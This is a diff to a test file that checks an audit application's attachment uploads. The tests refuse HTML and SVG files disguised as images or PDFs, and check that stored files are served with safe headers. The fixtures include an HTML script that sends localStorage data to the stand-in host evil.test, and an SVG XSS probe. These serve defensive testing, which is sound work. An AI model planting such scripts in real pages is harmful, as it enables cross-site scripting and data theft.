@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import yazl from 'yazl';
 import { ATTACHMENT_MESSAGES, type Attachment, type AuditJob } from '@scrutineer/contracts';
 import { startTestServer, type TestServer } from '../../test/harness.js';
 import {
@@ -19,6 +20,30 @@ let stranger: Account;
 let job: AuditJob;
 
 const pdf = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
+const png = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
+  'base64',
+);
+const html = Buffer.from('<html><script>fetch("//evil.test/?t="+localStorage.length)</script></html>');
+const svg = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
+);
+
+/** A minimal Word (OOXML) document: the parts a reader looks for to name the format. */
+async function docx(): Promise<Buffer> {
+  const zip = new yazl.ZipFile();
+  zip.addBuffer(
+    Buffer.from(
+      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    ),
+    '[Content_Types].xml',
+  );
+  zip.addBuffer(Buffer.from('<w:document/>'), 'word/document.xml');
+  zip.end();
+  const chunks: Buffer[] = [];
+  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer);
+  return Buffer.concat(chunks);
+}
 
 beforeAll(async () => {
   server = await startTestServer();
@@ -116,11 +141,12 @@ describe('attachments', () => {
   });
 
   it('accepts images and Word documents; refuses other types, Observers and strangers', async () => {
-    for (const [name, type] of [
-      ['scan.png', 'image/png'],
-      ['notes.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
-    ]) {
-      const answer = await attach(auditor.token, name!, type!);
+    const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
+    for (const [name, type, content] of [
+      ['scan.png', 'image/png', png],
+      ['notes.docx', word, await docx()],
+    ] as const) {
+      const answer = await attach(auditor.token, name, type, content);
       expect(answer.status, name).toBe(201);
     }
     const exe = await attach(auditor.token, 'tool.exe', 'application/octet-stream');
@@ -136,6 +162,48 @@ describe('attachments', () => {
       Buffer.alloc(25 * 1024 * 1024 + 1),
     );
     expect(big).toMatchObject({ status: 400, body: { error: ATTACHMENT_MESSAGES.tooLarge } });
+  });
+
+  it('refuses files whose bytes are not an image, PDF or Word document, whatever their name', async () => {
+    for (const [name, type, content] of [
+      ['minutes.pdf', 'application/pdf', html],
+      ['scan.png', 'image/png', html],
+      ['seal.svg', 'image/svg+xml', svg],
+      ['seal.png', 'image/png', svg],
+      ['notes.docx', 'application/msword', Buffer.from('plain words')],
+    ] as const) {
+      const answer = await attach(uploader.token, name, type, content);
+      expect(answer, name).toMatchObject({
+        status: 400,
+        body: { error: ATTACHMENT_MESSAGES.typeNotAllowed },
+      });
+    }
+  });
+
+  it('serves attachments as downloads of their checked type, never as pages', async () => {
+    // A PDF sent as an image is stored, and served, as the PDF it is.
+    const uploaded = await attach(uploader.token, 'photo.png', 'image/png', pdf);
+    expect(uploaded.status).toBe(201);
+    const served = await fetchBytes(server, uploaded.body.url, auditor.token);
+    expect(served.status).toBe(200);
+    expect(served.headers.get('content-type')).toBe('application/pdf');
+    expect(served.headers.get('content-disposition')).toBe(
+      `attachment; filename="photo.png"; filename*=UTF-8''photo.png`,
+    );
+    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(served.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
+    expect(served.headers.get('content-security-policy')).toContain("default-src 'none'");
+
+    // A file stored before types were checked goes out as plain bytes, never as HTML or SVG.
+    for (const type of ['text/html', 'image/svg+xml']) {
+      await server.deps.database.executeSql(
+        'UPDATE job_attachments SET content_type = $1 WHERE id = $2',
+        [type, uploaded.body.id],
+      );
+      const old = await fetchBytes(server, uploaded.body.url, auditor.token);
+      expect(old.headers.get('content-type'), type).toBe('application/octet-stream');
+      expect(old.headers.get('content-disposition')).toMatch(/^attachment;/);
+    }
   });
 
   it('sweeps uploads never described after the grace period, with their bytes', async () => {
